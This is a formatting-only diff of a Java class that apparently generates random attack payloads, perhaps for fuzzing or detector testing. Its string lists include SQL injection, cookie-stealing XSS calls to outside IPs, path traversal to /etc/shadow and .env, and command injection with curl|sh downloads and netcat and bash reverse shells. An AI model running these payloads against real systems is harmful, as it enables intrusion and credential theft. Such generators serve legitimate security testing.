@@ -34,7 +34,9 @@ final class AttackPayloads {
         String core = switch (rnd.nextInt(11)) {
             case 0 -> " OR " + a + "=" + a;
             case 1 -> " OR '" + (char) ('a' + a) + "'='" + (char) ('a' + a);
-            case 2 -> " UNION SELECT " + columns() + " FROM " + pick("usuarios", "clientes", "users", "information_schema.tables", "mysql.user");
+            case 2 ->
+                " UNION SELECT " + columns() + " FROM "
+                        + pick("usuarios", "clientes", "users", "information_schema.tables", "mysql.user");
             case 3 -> " AND SLEEP(" + (3 + a) + ")";
             case 4 -> "; DROP TABLE " + pick("clientes", "pedidos", "sesiones");
             case 5 -> " AND (SELECT COUNT(*) FROM " + pick("usuarios", "pg_user", "sysobjects") + ")>0";
@@ -56,16 +58,30 @@ final class AttackPayloads {
         StringBuilder sb = new StringBuilder();
         for (int i = 0; i < n; i++) {
             if (i > 0) sb.append(',');
-            sb.append(pick("NULL", String.valueOf(i + 1), "username", "password", "email", "@@version", "table_name",
+            sb.append(pick(
+                    "NULL",
+                    String.valueOf(i + 1),
+                    "username",
+                    "password",
+                    "email",
+                    "@@version",
+                    "table_name",
                     "concat(usuario,0x3a,clave)"));
         }
         return sb.toString();
     }
 
     String xss() {
-        String js = pick("alert(1)", "alert(document.cookie)", "alert('XSS')", "prompt(1)", "confirm(document.domain)",
-                "fetch('//203.0.113.9/c?'+document.cookie)", "eval(atob('YWxlcnQoMSk='))",
-                "document.location='http://198.51.100.4/?c='+document.cookie", "alert(String.fromCharCode(88,83,83))");
+        String js = pick(
+                "alert(1)",
+                "alert(document.cookie)",
+                "alert('XSS')",
+                "prompt(1)",
+                "confirm(document.domain)",
+                "fetch('//203.0.113.9/c?'+document.cookie)",
+                "eval(atob('YWxlcnQoMSk='))",
+                "document.location='http://198.51.100.4/?c='+document.cookie",
+                "alert(String.fromCharCode(88,83,83))");
         String event = pick("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart");
         String breakout = pick("", "", "\">", "'>", "</textarea>", "</title>", "\" ");
         String body = switch (rnd.nextInt(9)) {
@@ -87,11 +103,32 @@ final class AttackPayloads {
     }
 
     String traversal() {
-        String target = pick("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "boot.ini",
-                "WEB-INF/web.xml", ".env", "config/database.yml", "var/log/nginx/access.log", ".git/config",
-                "app/config/parameters.yml", "windows/system32/drivers/etc/hosts");
+        String target = pick(
+                "etc/passwd",
+                "etc/shadow",
+                "etc/hosts",
+                "proc/self/environ",
+                "windows/win.ini",
+                "boot.ini",
+                "WEB-INF/web.xml",
+                ".env",
+                "config/database.yml",
+                "var/log/nginx/access.log",
+                ".git/config",
+                "app/config/parameters.yml",
+                "windows/system32/drivers/etc/hosts");
         int depth = 2 + rnd.nextInt(7);
-        String step = pick("../", "../", "..\\", "..%2f", "%2e%2e%2f", "..%252f", "....//", "..;/", "%2e%2e/", "..%5c",
+        String step = pick(
+                "../",
+                "../",
+                "..\\",
+                "..%2f",
+                "%2e%2e%2f",
+                "..%252f",
+                "....//",
+                "..;/",
+                "%2e%2e/",
+                "..%5c",
                 "%c0%ae%c0%ae/");
         StringBuilder sb = new StringBuilder();
         String lead = pick("", "", "", "/var/www/html/", "imagenes/", "./");
@@ -101,7 +138,8 @@ final class AttackPayloads {
         sb.append(t);
         if (rnd.nextInt(8) == 0) sb.append(pick("%00", "%00.jpg", "%00.pdf"));
         return switch (rnd.nextInt(12)) {
-            case 0 -> "php://filter/convert.base64-encode/resource=" + pick("index.php", "config.php", "../../config.php");
+            case 0 ->
+                "php://filter/convert.base64-encode/resource=" + pick("index.php", "config.php", "../../config.php");
             case 1 -> "file:///" + target;
             default -> sb.toString();
         };
@@ -109,10 +147,24 @@ final class AttackPayloads {
 
     String cmd() {
         String sep = pick(";", "|", "||", "&&", "&", "%0a", "%0d%0a", "`", "$(");
-        String command = pick("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /var/www", "sleep 10",
-                "ping -c 4 192.0.2.10", "curl http://203.0.113.5/x.sh|sh", "wget -qO- http://198.51.100.7/a|bash",
-                "nc -e /bin/sh 198.51.100.7 4444", "bash -i >& /dev/tcp/203.0.113.50/443 0>&1", "type C:\\Windows\\win.ini",
-                "dir c:\\", "echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh", "net user", "cat${IFS}/etc/passwd", "head -n 5 /etc/shadow");
+        String command = pick(
+                "id",
+                "whoami",
+                "uname -a",
+                "cat /etc/passwd",
+                "ls -la /var/www",
+                "sleep 10",
+                "ping -c 4 192.0.2.10",
+                "curl http://203.0.113.5/x.sh|sh",
+                "wget -qO- http://198.51.100.7/a|bash",
+                "nc -e /bin/sh 198.51.100.7 4444",
+                "bash -i >& /dev/tcp/203.0.113.50/443 0>&1",
+                "type C:\\Windows\\win.ini",
+                "dir c:\\",
+                "echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
+                "net user",
+                "cat${IFS}/etc/passwd",
+                "head -n 5 /etc/shadow");
         String p = switch (sep) {
             case "`" -> "`" + command + "`";
             case "$(" -> "$(" + command + ")";
